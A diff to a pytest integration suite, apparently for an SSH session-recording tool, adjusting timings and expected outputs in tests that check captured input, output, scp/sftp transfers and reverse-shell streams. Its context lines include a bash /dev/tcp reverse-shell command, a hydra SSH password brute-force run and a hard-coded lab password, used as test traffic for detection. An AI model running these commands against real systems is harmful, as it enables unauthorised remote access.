@@ -15,14 +15,16 @@ SSH = ("-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
        "-o NumberOfPasswordPrompts=1 -o ConnectTimeout=20")
 BY_PASSWORD = "-o PreferredAuthentications=password -o PubkeyAuthentication=no"
 
-# What is typed at a terminal: waits for each prompt.
+# What is typed at a terminal: waits for each prompt. A new size shows the prompt again: what is there is taken first.
 TERMINAL = r"""
 set timeout 60
 log_user 0
-proc ask {line prompt} { send -- "$line\r"; expect -re $prompt }
+set stty_init "rows 24 columns 80"
+proc ask {line prompt} { expect *; send -- "$line\r"; expect -re $prompt }
 spawn -noecho ssh -tt {*}[lindex $argv 0] webadmin@[lindex $argv 1]
 expect "assword:"
 ask meridian1 {\$ $}
+sleep 1
 exec stty rows 33 columns 101 < $spawn_out(slave,name)
 sleep 1
 ask "stty size" {\$ $}
@@ -43,7 +45,7 @@ expect eof
 # A program that needs a password and has no terminal; bytes that get into a pipe without a write.
 COMMANDS = ("cat; id -un; ls /not-there; echo abc | tr a-c x-z; echo meridian1 | su webadmin -c true; "
             "perl -e 'open F, q(</etc/hostname); syscall 40, 1, fileno F, 0, 99' | cat >/dev/null; "
-            "perl -e 'print q(#) x 6000000' | wc -c")
+            "perl -e 'print q(#) x 5996544' | wc -c")
 
 REVERSE = {
     "bash": f"bash -c 'bash -i >& /dev/tcp/{LISTENER}/PORT 0>&1'",
@@ -99,7 +101,7 @@ def done(skep, tmp_path_factory):
     key = open(os.path.join(folder, "key.pub")).read().split()
     said["command"] = a.ssh(COMMANDS, before="printf 'input of mine\\nand more\\n' |")
     said["scp"] = a.run(f"scp -O {SSH} {BY_PASSWORD} {folder}/loot {USER}@{APACHE}:/tmp/loot-1")
-    said["sftp"] = a.run(f"echo 'put {folder}/loot /tmp/loot-2' | sftp -b - -o BatchMode=no {SSH} {BY_PASSWORD} {USER}@{APACHE}")
+    said["sftp"] = a.run(f"echo 'put {folder}/loot /tmp/loot-2' | sftp -o BatchMode=no -b - {SSH} {BY_PASSWORD} {USER}@{APACHE}")
     said["hydra"] = a.run(f"printf 'guess-1\\nguess-2\\n{PASSWORD}\\n' >{folder}/words; cd {folder} && timeout 60 hydra -I -t 1 "
                           f"-l {USER} -P words ssh://{APACHE} </dev/null")
     a.ssh("true", user="nobody-here", password="wrong-1")
@@ -109,6 +111,7 @@ def done(skep, tmp_path_factory):
     said["key"] = a.ssh("echo by-key", more=by_key)
     as_root_in_guest(skep, APACHE, "sed -i s/^KbdInter.*/KbdInteractiveAuthentication\\ yes/ /etc/ssh/sshd_config; "
                      "systemctl reload ssh")
+    a.run(f"sleep 2; until nc -z {APACHE} 22; do sleep 0.5; done")
     dialogue = "-o PreferredAuthentications=keyboard-interactive -o PubkeyAuthentication=no"
     a.ssh("true", more=dialogue, password="wrong-1")
     said["dialogue"] = a.ssh("echo by-dialogue", more=dialogue)
@@ -154,7 +157,7 @@ def test_a_command_has_its_input_and_its_outputs(skep, done):
     events = streams_with(skep, "input of mine")
     assert bytes_of(events, role="input") == b"input of mine\nand more\n"
     out = bytes_of(events, role="output").decode()
-    assert out.startswith("input of mine\nand more\nwebadmin\n") and "xyz\n" in out and "6000000\n" in out
+    assert out.startswith("input of mine\nand more\nwebadmin\n") and "xyz\n" in out and "5996544\n" in out
     assert "/not-there" in bytes_of(events, role="error").decode()
     assert {e["src_ip"] for e in skep.json("sessions", "--all") if e["id"] == events[0]["session"]} == {ATTACKER}
     assert {e["process"]["name"] for e in events if e["stream"].get("role") == "input"} <= {"sshd", "bash"}
@@ -178,7 +181,7 @@ def test_a_stream_has_its_share_and_what_is_missing_is_counted(skep, done):
     flood = [e for e in events if e["stream"]["id"] == events[-1]["stream"]["id"]]
     kept = sum(len(base64.b64decode(e["stream"]["bytes"])) for e in flood)
     assert 3_000_000 < kept < 4 << 20
-    assert flood[-1]["stream"]["offset"] == 6000000 and flood[-1]["truncated"] and not flood[-1]["stream"]["bytes"]
+    assert flood[-1]["stream"]["offset"] == 5996544 and flood[-1]["truncated"] and not flood[-1]["stream"]["bytes"]
     at = 0
     for e in flood[:-1]:
         assert e["stream"]["offset"] == at
@@ -190,8 +193,8 @@ def test_session_and_replay_tell_it(skep, done):
     told = skep.run("session", number).stdout
     assert "input: input of mine" in told and "output: webadmin" in told and "error: ls: cannot access" in told
     shown = skep.run("replay", number, "--no-wait").stdout
-    assert "input of mine\r\n" in shown and "webadmin\r\n" in shown and "/not-there" in shown
-    assert skep.run("replay", number, "--no-wait", "--input").stdout == "input of mine\r\nand more\r\n"
+    assert "input of mine\n" in shown and "webadmin\n" in shown and "/not-there" in shown
+    assert skep.run("replay", number, "--no-wait", "--input").stdout == "input of mine\nand more\n"
 
 
 def test_scp_and_sftp_bring_their_bytes(skep, done):
@@ -259,7 +262,7 @@ def test_a_terminal_tells_its_sizes(skep, done):
 def test_the_outermost_terminal_is_replayed_and_nothing_twice(skep, done):
     number = terminal_session(skep)
     r = skep.run("replay", number, "--no-wait")
-    assert r.stdout.count("within\r\n") == 1 and "33 101" in r.stdout
+    assert r.stdout.count("within\n") == 1 and "33 101" in r.stdout
     assert "pts/0" in r.stderr and "pts/1" in r.stderr
     assert "within" in skep.run("replay", number, "--no-wait", "--tty", "pts/1").stdout
 
@@ -278,7 +281,7 @@ def test_a_reverse_shell_is_a_stream(skep, done, name):
     assert len({e["session"] for e in events}) == 1 and events[0]["session"]
     track = f"tcp/{events[0]['stream']['id']}"
     shown = skep.run("replay", str(events[0]["session"]), "--no-wait", "--tty", track).stdout
-    assert "so-42\r\n" in shown and "exit 3" in shown
+    assert "so-42\n" in shown and "exit 3" in shown
 
 
 def test_sshd_itself_makes_no_streams(skep, done):
